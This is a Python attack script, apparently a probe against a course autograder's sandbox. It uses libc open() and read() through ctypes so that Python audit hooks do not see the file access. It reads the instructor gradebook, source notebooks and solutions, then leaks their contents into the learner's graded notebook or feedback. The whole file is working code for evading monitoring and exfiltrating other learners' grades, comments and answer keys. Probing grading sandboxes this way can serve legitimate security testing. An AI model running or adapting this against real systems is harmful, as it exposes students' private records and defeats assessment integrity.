"""Read the instructor's gradebook, the source notebook and solutions/ with libc open()/read()
through ctypes: C-level file I/O that no Python audit event sees.

Got out: any byte of those files (roster, other learners' grades and comments, solutions) shows
in this learner's graded notebook or feedback.
"""
from numpy.ctypeslib import ctypes

libc = _libc()
for path in (f"{_COURSE}/gradebook.db", f"{_COURSE}/source/01_gradient_descent/01_gradient_descent.ipynb",
             f"{_REPO}/solutions/01_gradient_descent.ipynb", f"{_REPO}/autograder/course/gradebook.db"):
    fd = libc.open(path.encode(), 0)
    if fd < 0:
        print(path, "open failed, errno", ctypes.get_errno())
        continue
    buf, data = ctypes.create_string_buffer(1 << 16), b""
    while len(data) < 4 << 20:
        n = libc.read(fd, buf, len(buf))
        if n <= 0:
            break
        data += buf.raw[:n]
    libc.close(fd)
    _leak(data, path)
